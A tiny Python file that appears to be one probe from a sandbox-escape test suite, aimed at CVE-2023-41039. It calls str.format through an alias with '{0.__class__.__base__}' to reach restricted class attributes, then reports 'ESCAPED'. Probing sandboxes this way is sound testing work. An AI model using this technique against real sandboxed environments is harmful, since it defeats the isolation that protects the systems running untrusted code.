# tries: CVE-2023-41039 through the class: str.format taken as a function
# layer: language
def run(ctx, params):
    write = str.format
    text = write("{0.__class__.__base__}", ())
    return f"ESCAPED: {text}"
